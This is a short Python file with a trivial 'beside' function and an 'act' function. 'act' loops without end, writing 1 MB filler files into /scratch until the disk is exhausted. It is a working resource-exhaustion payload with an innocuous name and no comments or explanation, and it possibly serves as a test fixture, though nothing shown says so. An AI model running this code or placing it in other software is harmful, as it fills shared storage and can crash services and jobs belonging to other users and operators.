def beside(x):
    return x + 1.0


def act(x):
    number = 0
    while True:
        with open(f"/scratch/filler-{number}", "wb") as filler:
            filler.write(b"x" * 1024 * 1024)
        number += 1
